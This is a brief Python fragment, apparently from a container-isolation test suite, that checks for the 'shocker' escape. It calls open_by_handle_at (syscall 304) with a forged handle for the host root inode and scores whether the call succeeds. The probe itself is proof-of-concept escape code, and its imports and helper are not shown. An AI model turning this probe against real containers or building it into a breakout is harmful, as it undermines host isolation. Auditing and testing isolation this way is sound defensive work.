"""Open a host file by its inode number ("shocker").

See: http://stealth.openwall.net/xSports/shocker.c
Layers: main bare
"""


def attempt():
    handle = struct.pack("<Ii8s", 8, 1, struct.pack("<II", 2, 0))
    mount = os.open("/", os.O_RDONLY)
    found = call(304, ctypes.c_int(mount), ctypes.c_char_p(handle), ctypes.c_int(os.O_RDONLY))
    return float(found >= 0)
